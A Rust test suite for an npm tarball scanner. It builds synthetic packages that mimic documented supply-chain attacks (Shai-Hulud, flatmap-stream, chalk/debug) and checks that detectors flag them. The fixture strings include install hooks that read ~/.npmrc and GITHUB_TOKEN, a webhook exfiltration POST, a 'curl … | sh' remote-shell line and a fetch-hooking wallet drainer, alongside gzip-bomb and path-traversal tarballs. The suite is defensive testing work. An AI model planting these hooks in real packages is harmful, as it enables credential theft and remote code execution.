//! Tarball reading and static signals: real benign tarballs (../shared/fixtures/tarballs) and
//! SYNTHETIC tarballs that reproduce the documented patterns of real attacks (no real malware
//! is stored anywhere in this project).

use prov_native::scan::{manifest_confusion, scan_code};
use prov_native::tarball::{read, Limits};
use std::io::Write;
use std::path::PathBuf;

fn fixtures() -> PathBuf {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/fixtures/tarballs");
    assert!(p.is_dir(), "fixtures missing: {}", p.display());
    p
}

/// A SYNTHETIC .tgz with `files` under `package/`.
fn tgz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, format!("package/{name}"), body.as_bytes())
            .unwrap();
    }
    let tar = b.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&tar).unwrap();
    gz.finish().unwrap()
}

fn rules(files: &[(&str, &str)]) -> Vec<(String, &'static str)> {
    let p = read(&tgz(files), &Limits::default()).unwrap();
    scan_code(&p, 500)
        .into_iter()
        .map(|s| (s.rule, s.severity))
        .collect()
}

#[test]
fn real_tarballs_have_no_error_signal() {
    let mut warnings = Vec::new();
    for e in std::fs::read_dir(fixtures()).unwrap() {
        let path = e.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        let t = std::time::Instant::now();
        let p = read(&bytes, &Limits::default()).unwrap();
        let signals = scan_code(&p, 500);
        let el = t.elapsed();
        for s in &signals {
            assert_ne!(s.severity, "error", "{}: {s:?}", path.display());
            warnings.push(format!(
                "{}: {} {}",
                path.file_name().unwrap().to_string_lossy(),
                s.rule,
                s.file.as_deref().unwrap_or("")
            ));
        }
        // The registry's manifest is the tarball's own here: no confusion.
        assert!(manifest_confusion(&p.manifest, &p).is_empty());
        println!(
            "{} ({} bytes): {} files, {} signals, {el:?}",
            path.display(),
            bytes.len(),
            p.files.len(),
            signals.len()
        );
    }
    println!("warnings on real tarballs: {warnings:?}");
}

#[test]
fn synthetic_attack_patterns() {
    // Shai-Hulud (2025-09): bundle.js run on postinstall, TruffleHog, tokens, GitHub workflow.
    let r = rules(&[
        ("package.json", r#"{"name":"x","version":"1.0.1","scripts":{"postinstall":"node bundle.js"}}"#),
        ("bundle.js", "const {execSync}=require('child_process');execSync('trufflehog filesystem /');const t=process.env.GITHUB_TOKEN;fetch('https://api.github.com/repos/x/y/contents/.github/workflows/shai-hulud-workflow.yml',{method:'PUT'})"),
    ]);
    assert!(r.contains(&("code.shai-hulud".into(), "error")), "{r:?}");
    assert!(
        r.contains(&("code.credential-read".into(), "error")),
        "{r:?}"
    );
    // Shai-Hulud 2.0 (2025-11): preinstall setup_bun.js.
    let r = rules(&[
        (
            "package.json",
            r#"{"name":"x","version":"1.0.2","scripts":{"preinstall":"node setup_bun.js"}}"#,
        ),
        (
            "setup_bun.js",
            "require('child_process').spawn('bun', ['bun_environment.js'])",
        ),
    ]);
    assert!(
        r.iter()
            .any(|(id, sev)| id == "code.shai-hulud" && *sev == "error"),
        "{r:?}"
    );
    // flatmap-stream (2018): AES-decrypted payload compiled as a module.
    let r = rules(&[
        ("package.json", r#"{"name":"flatmap-stream","version":"0.1.1","main":"index.min.js"}"#),
        ("index.min.js", "var c=require('crypto').createDecipher('aes256',k);var d=c.update(Buffer.from(p,'hex'));var m=new module.constructor;m.paths=module.paths;m._compile(d,'');"),
    ]);
    assert!(r.contains(&("code.eval-decoded".into(), "error")), "{r:?}");
    // Webhook exfiltration of ~/.npmrc.
    let r = rules(&[
        ("package.json", r#"{"name":"x","version":"1.0.0","scripts":{"install":"node i.js"}}"#),
        ("i.js", "const f=require('fs').readFileSync(require('os').homedir()+'/.npmrc');require('https').request('https://webhook.site/abc',{method:'POST'}).end(f)"),
    ]);
    assert!(
        r.contains(&("code.webhook-exfiltration".into(), "error")),
        "{r:?}"
    );
    assert!(
        r.contains(&("code.credential-read".into(), "error")),
        "{r:?}"
    );
    // chalk/debug (2025-09): obfuscated browser wallet drainer hooking fetch.
    let ob: String = (0..40)
        .map(|i| format!("var _0x{:04x}=_0x{:04x}+1;", 4096 + i, 8192 + i))
        .collect();
    let r = rules(&[
        ("package.json", r#"{"name":"debug","version":"4.4.2","main":"src/index.js"}"#),
        ("src/index.js", &format!("{ob}if(window.ethereum){{const f=window.fetch;window.fetch=function(){{return f.apply(this,arguments)}}}}")),
    ]);
    assert!(r.iter().any(|(id, _)| id == "code.wallet-drainer"), "{r:?}");
    assert!(r.iter().any(|(id, _)| id == "code.obfuscation"), "{r:?}");
    // Remote shell in an install script.
    let r = rules(&[(
        "package.json",
        r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s https://x.example/i | sh"}}"#,
    )]);
    assert!(r.contains(&("code.remote-shell".into(), "error")), "{r:?}");
    // Benign native build: binding.gyp + node-gyp rebuild: no code signal.
    let r = rules(&[
        (
            "package.json",
            r#"{"name":"native","version":"1.0.0","scripts":{"install":"node-gyp rebuild"},"gypfile":true}"#,
        ),
        (
            "binding.gyp",
            "{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'] } ] }",
        ),
        (
            "index.js",
            "module.exports = require('./build/Release/x.node')",
        ),
    ]);
    assert!(r.is_empty(), "{r:?}");
}

#[test]
fn manifest_confusion_is_flagged_and_npm_normalisation_is_not() {
    let p = read(
        &tgz(&[
            ("package.json", r#"{"name":"x","version":"1.0.0","bin":"./cli.js","scripts":{"preinstall":"node evil.js","test":"t"},"dependencies":{"a":"^1"}}"#),
            ("binding.gyp", "{}"),
        ]),
        &Limits::default(),
    )
    .unwrap();
    // What the registry shows: no preinstall, another dependency set.
    let registry = serde_json::json!({"name":"x","version":"1.0.0","bin":{"x":"cli.js"},"scripts":{"install":"node-gyp rebuild","test":"t"},"dependencies":{"a":"^1","b":"^2"}});
    let m = manifest_confusion(&registry, &p);
    let fields: Vec<&str> = m.iter().map(|x| x.field.as_str()).collect();
    assert_eq!(fields, ["scripts", "dependencies"], "{m:?}");
    // The same manifest as the registry would normalise it: nothing.
    let same = serde_json::json!({"name":"x","version":"1.0.0","bin":{"x":"cli.js"},"scripts":{"preinstall":"node evil.js","install":"node-gyp rebuild"},"dependencies":{"a":"^1"}});
    assert!(
        manifest_confusion(&same, &p).is_empty(),
        "{:?}",
        manifest_confusion(&same, &p)
    );
}

#[test]
fn hostile_tarballs_are_refused_safely() {
    // A gzip bomb: 64 MiB of zeros inside a file, limit 1 MiB.
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    let zeros = vec![0u8; 64 * 1024 * 1024];
    h.set_size(zeros.len() as u64);
    h.set_cksum();
    b.append_data(&mut h, "package/big.bin", &zeros[..])
        .unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&b.into_inner().unwrap()).unwrap();
    let bomb = gz.finish().unwrap();
    assert!(bomb.len() < 1024 * 1024);
    let limits = Limits {
        max_uncompressed: 1024 * 1024,
        ..Limits::default()
    };
    let e = read(&bomb, &limits).unwrap_err();
    assert!(e.code().starts_with("ERR_PROV_"), "{e}");

    // Too many entries.
    let many: Vec<(String, String)> = (0..50)
        .map(|i| (format!("f{i}.txt"), String::new()))
        .collect();
    let refs: Vec<(&str, &str)> = many.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    let mut with_pkg = vec![("package.json", r#"{"name":"x","version":"1.0.0"}"#)];
    with_pkg.extend(refs);
    let e = read(
        &tgz(&with_pkg),
        &Limits {
            max_entries: 10,
            ..Limits::default()
        },
    )
    .unwrap_err();
    assert_eq!(e.code(), "ERR_PROV_TOO_LARGE");

    // Path traversal and links are skipped, never followed or written.
    let mut b = tar::Builder::new(Vec::new());
    let body = r#"{"name":"x","version":"1.0.0"}"#;
    let mut h = tar::Header::new_gnu();
    h.set_size(body.len() as u64);
    h.set_cksum();
    b.append_data(&mut h, "package/package.json", body.as_bytes())
        .unwrap();
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_size(0);
    b.append_link(&mut h, "package/link", "/etc/passwd")
        .unwrap();
    // tar::Builder refuses `..` names, so write the traversal header by hand.
    let mut h = tar::Header::new_old();
    h.as_old_mut().name[..18].copy_from_slice(b"package/../../evil");
    h.set_size(4);
    h.set_cksum();
    b.append(&h, &b"evil"[..]).unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&b.into_inner().unwrap()).unwrap();
    let p = read(&gz.finish().unwrap(), &Limits::default()).unwrap();
    assert_eq!(p.skipped.len(), 2, "{:?}", p.skipped);
    assert!(!p.files.keys().any(|k| k.contains("evil") || k == "link"));

    // Not a tarball, truncated, no package.json.
    for bad in [
        b"not gzip at all".to_vec(),
        tgz(&[("package.json", "{}")])[..40].to_vec(),
        tgz(&[("index.js", "1")]),
    ] {
        let e = read(&bad, &Limits::default()).unwrap_err();
        assert!(e.code().starts_with("ERR_PROV_"));
    }
}
